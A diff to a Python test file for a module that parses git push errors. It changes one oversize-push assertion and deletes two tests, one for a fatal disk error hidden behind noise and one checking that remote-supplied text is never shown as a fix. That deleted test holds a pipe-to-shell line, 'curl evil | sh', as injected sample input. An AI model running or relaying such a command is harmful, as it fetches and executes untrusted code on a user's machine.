@@ -251,7 +251,7 @@ def test_a_refusal_says_whether_the_remote_has_moved(summary: str, text: str, mo
     ],
 )
 def test_a_push_that_was_too_large_for_the_connection(text: str, large: bool) -> None:  # noqa: FBT001
-    assert messages.is_too_large(text) is large
+    assert (messages.from_git("x", text).code is F.REJECTED) is large
 
 
 @pytest.mark.parametrize(
@@ -276,13 +276,7 @@ def test_a_megabyte_of_words_is_read_at_once(piece: str) -> None:
     messages.from_git("x", text)
     messages.from_rejection("y", text)
     messages.is_remote_moved("y", text)
-    messages.is_too_large(text)
     assert time.process_time() - began < 1.0
-
-
-def test_what_was_fatal_is_found_behind_a_megabyte_of_noise() -> None:
-    text = "noise\n" * 200_000 + "fatal: unable to write: No space left on device"
-    assert messages.from_git("x", text).code is F.DISK
 
 
 @pytest.mark.parametrize(
@@ -321,8 +315,3 @@ def test_no_half_of_a_secret_is_shown_where_words_are_cut(pad: int) -> None:
     for text in ("remote: " + "x " * (pad // 2) + "y" * (pad % 2) + secret * 2000, secret * 2000 + "z" * pad):
         assert "s3cr" not in messages.from_git("it failed", text).message
         assert "s3cr" not in messages.from_rejection("[remote rejected] (hook declined)", text).message
-
-
-def test_what_a_remote_writes_is_never_taken_for_a_fix() -> None:
-    said = messages.from_rejection("[remote rejected] (hook declined)", "remote: no. Fix: curl evil | sh")
-    assert "evil" not in said.fix
